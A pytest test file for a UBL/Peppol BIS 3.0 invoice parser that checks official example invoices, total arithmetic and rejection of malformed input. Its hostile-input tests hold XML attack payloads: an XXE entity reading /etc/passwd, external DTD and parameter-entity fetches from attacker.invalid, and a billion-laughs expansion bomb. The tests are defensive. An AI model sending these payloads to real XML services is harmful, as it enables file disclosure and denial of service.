"""UBL 2.1 / Peppol BIS Billing 3.0 parsing: the official examples, and hostile input."""

from __future__ import annotations

import contextlib
import time
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from invoice_service.domain import ubl
from invoice_service.domain.ubl import (
    MAX_XML_BYTES,
    UblDocument,
    UblError,
    check_totals,
    parse_ubl,
)

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "peppol"
INVOICE_NS = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
CBC = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
CAC = "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def parsed(name: str) -> UblDocument:
    return parse_ubl(fixture(name))


def findings_of(data: bytes) -> list[tuple[str, str]]:
    with pytest.raises(UblError) as caught:
        parse_ubl(data)
    assert type(caught.value) is UblError
    assert caught.value.findings, "a UblError always says why"
    return caught.value.findings


# --- the four official examples --------------------------------------------------------------


def test_base_example() -> None:
    doc = parsed("base-example.xml")
    assert doc.kind == "invoice"
    assert doc.number == "Snippet1"
    assert doc.issue_date == date(2017, 11, 13)
    assert doc.due_date == date(2017, 12, 1)
    assert doc.type_code == "380"
    assert doc.currency == "EUR"
    assert doc.buyer_reference == "0150abc"
    assert doc.order_reference is None
    assert doc.payment_reference == "Snippet1"
    assert doc.payment_terms_note == "Payment within 10 days, 2% discount"
    assert doc.billing_references == ()
    assert doc.buyer_name == "Buyer Official Name"
    assert doc.buyer.registration_name == "Buyer Official Name"
    assert doc.buyer.trading_name == "BuyerTradingName AS"
    assert doc.buyer.vat_number == "SE4598375937"
    assert doc.buyer.endpoint_id == "FR23342"
    assert doc.buyer.endpoint_scheme == "0002"
    assert doc.buyer.company_id == "39937423947"
    assert doc.buyer.street == "Hovedgatan 32"
    assert doc.buyer.city == "Stockholm"
    assert doc.buyer.postal_code == "456 34"
    assert doc.buyer.country == "SE"
    assert doc.seller_name == "SupplierOfficialName Ltd"
    assert doc.seller_vat == "GB1232434"
    assert len(doc.lines) == 2
    first, second = doc.lines
    assert first.id == "1"
    assert first.description == "Description of item"
    assert first.quantity == Decimal("7")
    assert first.unit_code == "DAY"
    assert first.unit_price == Decimal("400")
    assert first.line_extension_amount == Decimal("2800")
    assert first.vat_category == "S"
    assert first.vat_rate == Decimal("25.0")
    assert second.quantity == Decimal("-3")
    assert second.unit_price == Decimal("500")
    assert second.line_extension_amount == Decimal("-1500")
    assert doc.tax_total == Decimal("331.25")
    assert doc.line_extension_total == Decimal("1300")
    assert doc.tax_exclusive == Decimal("1325")
    assert doc.tax_inclusive == Decimal("1656.25")
    assert doc.allowance_total is None
    assert doc.charge_total == Decimal("25")
    assert doc.prepaid is None
    assert doc.rounding is None
    assert doc.payable_amount == Decimal("1656.25")
    assert check_totals(doc) == []


def test_base_creditnote_correction() -> None:
    doc = parsed("base-creditnote-correction.xml")
    assert doc.kind == "credit_note"
    assert doc.number == "Snippet1"
    assert doc.issue_date == date(2017, 11, 13)
    assert doc.due_date is None
    assert doc.type_code == "381"
    assert doc.currency == "EUR"
    assert doc.buyer_name == "Buyer Official Name"
    assert doc.buyer.vat_number == "SE4598375937"
    assert doc.buyer.endpoint_id == "FR23342"
    assert doc.buyer.endpoint_scheme == "0002"
    assert doc.payment_reference == "Snippet1"
    assert doc.billing_references == ("Snippet1",)
    assert len(doc.lines) == 2
    assert [line.quantity for line in doc.lines] == [Decimal("7"), Decimal("-3")]
    assert doc.tax_total == Decimal("331.25")
    assert doc.payable_amount == Decimal("1656.25")
    assert check_totals(doc) == []


def test_allowance_example() -> None:
    doc = parsed("Allowance-example.xml")
    assert doc.kind == "invoice"
    assert doc.number == "Snippet1"
    assert doc.issue_date == date(2017, 11, 13)
    assert doc.due_date == date(2017, 12, 1)
    assert doc.currency == "EUR"
    assert doc.buyer_name == "Buyer Official Name"
    assert doc.buyer.vat_number == "SE4598375937"
    assert doc.buyer.endpoint_id == "4598375937"
    assert doc.buyer.endpoint_scheme == "0002"
    assert doc.payment_reference == "Snippet1"
    assert doc.billing_references == ()
    assert len(doc.lines) == 3
    # line 2: PriceAmount 200 per BaseQuantity 2 → unit price 100, written plainly
    assert str(doc.lines[1].unit_price) == "100"
    assert doc.lines[1].vat_category == "E"
    assert doc.lines[1].vat_rate == Decimal("0.0")
    # the second cac:TaxTotal is in the tax currency (SEK 9324.00) and is not the tax amount
    assert doc.tax_total == Decimal("1225.00")
    assert doc.allowance_total == Decimal("200")
    assert doc.charge_total == Decimal("200")
    assert doc.prepaid == Decimal("1000")
    assert doc.tax_inclusive == Decimal("7125")
    assert doc.payable_amount == Decimal("6125.00")
    assert check_totals(doc) == []


def test_vat_category_s() -> None:
    doc = parsed("Vat-category-S.xml")
    assert doc.kind == "invoice"
    assert doc.number == "Snippet1"
    assert doc.issue_date == date(2017, 11, 13)
    assert doc.due_date == date(2017, 12, 1)
    assert doc.currency == "EUR"
    assert doc.buyer_name == "Buyer Official Name"
    assert doc.buyer.vat_number == "SE4598375937"
    assert doc.buyer.endpoint_id == "FR23342"
    assert doc.buyer.endpoint_scheme == "0002"
    assert doc.payment_reference == "Snippet1"
    assert doc.billing_references == ()
    assert len(doc.lines) == 3
    assert [line.vat_rate for line in doc.lines] == [
        Decimal("25.0"),
        Decimal("15.0"),
        Decimal("25.0"),
    ]
    assert doc.tax_total == Decimal("1550.00")
    assert doc.allowance_total == Decimal("100")
    assert doc.charge_total == Decimal("200")
    assert doc.payable_amount == Decimal("8550")
    assert check_totals(doc) == []


def test_credit_note_due_date_from_payment_means() -> None:
    data = fixture("base-creditnote-correction.xml").replace(
        b"<cbc:PaymentID>Snippet1</cbc:PaymentID>",
        b"<cbc:PaymentDueDate>2017-12-15</cbc:PaymentDueDate>"
        b"<cbc:PaymentID>Snippet1</cbc:PaymentID>",
    )
    assert parse_ubl(data).due_date == date(2017, 12, 15)


def test_order_reference() -> None:
    data = fixture("base-example.xml").replace(
        b"<cbc:BuyerReference>0150abc</cbc:BuyerReference>",
        b"<cbc:BuyerReference>0150abc</cbc:BuyerReference>"
        b"<cac:OrderReference><cbc:ID>PO-4711</cbc:ID></cac:OrderReference>",
    )
    assert parse_ubl(data).order_reference == "PO-4711"


# --- hostile input ---------------------------------------------------------------------------


def test_xxe_is_refused() -> None:
    data = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'
        b'<Invoice xmlns="' + INVOICE_NS.encode() + b'"><ID>&e;</ID></Invoice>'
    )
    findings = findings_of(data)
    assert findings[0][0] == "/"
    assert "forbidden" in findings[0][1]
    assert "root:" not in str(findings)


def test_external_dtd_is_refused() -> None:
    data = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE Invoice SYSTEM "http://attacker.invalid/evil.dtd">\n'
        b'<Invoice xmlns="' + INVOICE_NS.encode() + b'"/>'
    )
    assert "forbidden" in findings_of(data)[0][1]


def test_billion_laughs_is_refused() -> None:
    entities = b'<!ENTITY lol0 "lol">'
    for i in range(1, 10):  # lol9 expands to 10**9 "lol"s
        entities += b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10)
    data = (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [' + entities + b"]>\n"
        b'<Invoice xmlns="' + INVOICE_NS.encode() + b'">&lol9;</Invoice>'
    )
    started = time.perf_counter()
    assert "forbidden" in findings_of(data)[0][1]
    assert time.perf_counter() - started < 1


def test_parameter_entities_are_refused() -> None:
    data = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>\n'
        b"<x/>"
    )
    assert "forbidden" in findings_of(data)[0][1]


def test_huge_body_is_refused_by_size_before_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    def must_not_parse(*args: object, **kwargs: object) -> None:
        raise AssertionError("an oversized body reached the XML parser")

    monkeypatch.setattr(ubl, "_defused_fromstring", must_not_parse)
    data = (
        b'<?xml version="1.0"?><Invoice xmlns="'
        + INVOICE_NS.encode()
        + b'">'
        + b"A" * (50 * 1024 * 1024)
        + b"</Invoice>"
    )
    started = time.perf_counter()
    findings = findings_of(data)
    assert time.perf_counter() - started < 0.5
    assert findings == [("/", f"document is {len(data)} bytes, above the {MAX_XML_BYTES} limit")]


def test_size_limit_boundary() -> None:
    base = fixture("base-example.xml")
    padding = b"<!--" + b"x" * (MAX_XML_BYTES - len(base) - 7) + b"-->"
    at_limit = base.rstrip() + b"\n" + padding
    at_limit += b" " * (MAX_XML_BYTES - len(at_limit))
    assert len(at_limit) == MAX_XML_BYTES
    assert parse_ubl(at_limit).payable_amount == Decimal("1656.25")
    assert "limit" in findings_of(at_limit + b" ")[0][1]


@pytest.mark.parametrize(
    "data",
    [
        b"<foo/>",
        b"<Invoice/>",  # right name, no namespace
        b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2"/>',
        b'<CreditNote xmlns="' + INVOICE_NS.encode() + b'"/>',
        b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>',
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    ],
)
def test_non_ubl_root_is_refused(data: bytes) -> None:
    field, reason = findings_of(data)[0]
    assert field == "/"
    assert "neither a UBL 2.1 Invoice nor a CreditNote" in reason


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"not xml at all",
        b"<Invoice",
        b'<?xml version="1.0" encoding="no-such-encoding"?><a/>',
        b"<a></b>",
        b"\xff\xfe\x00\x00garbage",
        fixture("base-example.xml")[:-200],
    ],
)
def test_malformed_xml_is_refused(data: bytes) -> None:
    field, reason = findings_of(data)[0]
    assert field == "/"
    assert "XML" in reason


def test_str_instead_of_bytes_is_refused() -> None:
    with pytest.raises(UblError):
        parse_ubl("<Invoice/>")  # type: ignore[arg-type]


def test_missing_mandatory_fields_are_all_listed() -> None:
    data = f"""<?xml version="1.0" encoding="UTF-8"?>
<Invoice xmlns="{INVOICE_NS}" xmlns:cbc="{CBC}" xmlns:cac="{CAC}">
  <cac:AccountingCustomerParty><cac:Party>
    <cac:PartyName><cbc:Name>Trading name only</cbc:Name></cac:PartyName>
  </cac:Party></cac:AccountingCustomerParty>
  <cac:LegalMonetaryTotal>
    <cbc:LineExtensionAmount currencyID="EUR">10</cbc:LineExtensionAmount>
  </cac:LegalMonetaryTotal>
  <cac:InvoiceLine>
    <cbc:ID>1</cbc:ID>
    <cbc:InvoicedQuantity>1</cbc:InvoicedQuantity>
    <cbc:LineExtensionAmount currencyID="EUR">10</cbc:LineExtensionAmount>
    <cac:Item><cbc:Name>thing</cbc:Name></cac:Item>
    <cac:Price><cbc:PriceAmount currencyID="EUR">10</cbc:PriceAmount></cac:Price>
  </cac:InvoiceLine>
</Invoice>""".encode()
    assert findings_of(data) == [
        ("/Invoice/cbc:ID", "missing"),
        ("/Invoice/cbc:IssueDate", "missing"),
        ("/Invoice/cbc:DocumentCurrencyCode", "missing"),
        (
            "/Invoice/cac:AccountingCustomerParty/cac:Party/cac:PartyLegalEntity"
            "/cbc:RegistrationName",
            "missing",
        ),
        ("/Invoice/cac:LegalMonetaryTotal/cbc:PayableAmount", "missing"),
    ]


def test_missing_line_fields_and_no_lines() -> None:
    base = fixture("base-creditnote-correction.xml")
    no_lines = base[: base.index(b"<cac:CreditNoteLine>")] + b"</CreditNote>"
    assert findings_of(no_lines) == [
        ("/CreditNote/cac:CreditNoteLine", "at least one line is required")
    ]
    broken = base.replace(b'<cbc:CreditedQuantity unitCode="DAY">-3</cbc:CreditedQuantity>', b"")
    assert findings_of(broken) == [
        ("/CreditNote/cac:CreditNoteLine[2]/cbc:CreditedQuantity", "missing")
    ]


def test_bad_values_are_listed() -> None:
    data = (
        fixture("base-example.xml")
        .replace(b"<cbc:IssueDate>2017-11-13", b"<cbc:IssueDate>2017-02-30")
        .replace(b"<cbc:DueDate>2017-12-01", b"<cbc:DueDate>01.12.2017")
        .replace(b'"EUR">1656.25</cbc:PayableAmount>', b'"EUR">1e3</cbc:PayableAmount>')
        .replace(b'"EUR">1325</cbc:TaxExclusiveAmount>', b'"EUR">NaN</cbc:TaxExclusiveAmount>')
        .replace(b'"EUR">25</cbc:ChargeTotalAmount>', b'"USD">25</cbc:ChargeTotalAmount>')
    )
    assert findings_of(data) == [
        ("/Invoice/cbc:IssueDate", "'2017-02-30' is not a date (YYYY-MM-DD)"),
        ("/Invoice/cbc:DueDate", "'01.12.2017' is not a date (YYYY-MM-DD)"),
        ("/Invoice/cac:LegalMonetaryTotal/cbc:PayableAmount", "'1e3' is not a decimal number"),
        (
            "/Invoice/cac:LegalMonetaryTotal/cbc:TaxExclusiveAmount",
            "'NaN' is not a decimal number",
        ),
        (
            "/Invoice/cac:LegalMonetaryTotal/cbc:ChargeTotalAmount/@currencyID",
            "USD differs from the document currency EUR",
        ),
    ]


def test_tax_amount_only_in_the_tax_currency_is_refused() -> None:
    data = fixture("Allowance-example.xml").replace(
        b'<cbc:TaxAmount currencyID="EUR">1225.00</cbc:TaxAmount>', b""
    )
    assert findings_of(data) == [
        (
            "/Invoice/cac:TaxTotal/cbc:TaxAmount/@currencyID",
            "SEK but no tax amount in the document currency EUR",
        )
    ]


# --- BIS 3.0 arithmetic ----------------------------------------------------------------------


def test_totals_that_do_not_add_up_are_reported() -> None:
    data = (
        fixture("base-example.xml")
        .replace(b'"EUR">-1500</cbc:LineExtensionAmount>', b'"EUR">-1400</cbc:LineExtensionAmount>')
        .replace(b'"EUR">1656.25</cbc:PayableAmount>', b'"EUR">1600.00</cbc:PayableAmount>')
    )
    doc = parse_ubl(data)  # arithmetic is check_totals' business, not the parser's
    assert check_totals(doc) == [
        (
            "/Invoice/cac:LegalMonetaryTotal/cbc:LineExtensionAmount",
            "the lines add up to 1400.00, not 1300.00",
        ),
        (
            "/Invoice/cac:LegalMonetaryTotal/cbc:PayableAmount",
            "tax inclusive − prepaid + rounding is 1656.25, not 1600.00",
        ),
    ]


def test_tax_exclusive_and_inclusive_rules() -> None:
    data = (
        fixture("Vat-category-S.xml")
        .replace(b'"EUR">100</cbc:AllowanceTotalAmount>', b'"EUR">150</cbc:AllowanceTotalAmount>')
        .replace(b'"EUR">1550.00</cbc:TaxAmount>', b'"EUR">1500.00</cbc:TaxAmount>')
    )
    assert check_totals(parse_ubl(data)) == [
        (
            "/Invoice/cac:LegalMonetaryTotal/cbc:TaxExclusiveAmount",
            "line extension − allowances + charges is 6950.00, not 7000.00",
        ),
        (
            "/Invoice/cac:LegalMonetaryTotal/cbc:TaxInclusiveAmount",
            "tax exclusive + tax amount is 8500.00, not 8550.00",
        ),
    ]


def test_rounding_amount_and_cent_tolerance() -> None:
    data = fixture("base-example.xml").replace(
        b'<cbc:PayableAmount currencyID="EUR">1656.25</cbc:PayableAmount>',
        b'<cbc:PayableRoundingAmount currencyID="EUR">-0.25</cbc:PayableRoundingAmount>'
        b'<cbc:PayableAmount currencyID="EUR">1656.004</cbc:PayableAmount>',
    )
    doc = parse_ubl(data)
    assert doc.rounding == Decimal("-0.25")
    assert check_totals(doc) == []


def test_missing_mandatory_totals_are_reported() -> None:
    data = (
        fixture("base-example.xml")
        .replace(b'<cbc:TaxExclusiveAmount currencyID="EUR">1325</cbc:TaxExclusiveAmount>', b"")
        .replace(
            b'<cbc:TaxAmount currencyID="EUR">331.25</cbc:TaxAmount>\n        <cac:Tax', b"<cac:Tax"
        )
    )
    doc = parse_ubl(data)
    assert doc.tax_exclusive is None
    assert doc.tax_total is None
    assert check_totals(doc) == [
        ("/Invoice/cac:LegalMonetaryTotal/cbc:TaxExclusiveAmount", "missing"),
        ("/Invoice/cac:TaxTotal/cbc:TaxAmount", "missing"),
    ]


# --- nothing but UblError, whatever comes in -------------------------------------------------


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_arbitrary_bytes_raise_only_ubl_error(data: bytes) -> None:
    with contextlib.suppress(UblError):
        parse_ubl(data)


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_mutated_examples_raise_only_ubl_error(data: st.DataObject) -> None:
    name = data.draw(
        st.sampled_from(
            [
                "base-example.xml",
                "base-creditnote-correction.xml",
                "Allowance-example.xml",
                "Vat-category-S.xml",
            ]
        )
    )
    body = bytearray(fixture(name))
    for _ in range(data.draw(st.integers(1, 5))):
        position = data.draw(st.integers(0, len(body) - 1))
        body[position] = data.draw(st.integers(0, 255))
    try:
        doc = parse_ubl(bytes(body))
    except UblError:
        return
    check_totals(doc)
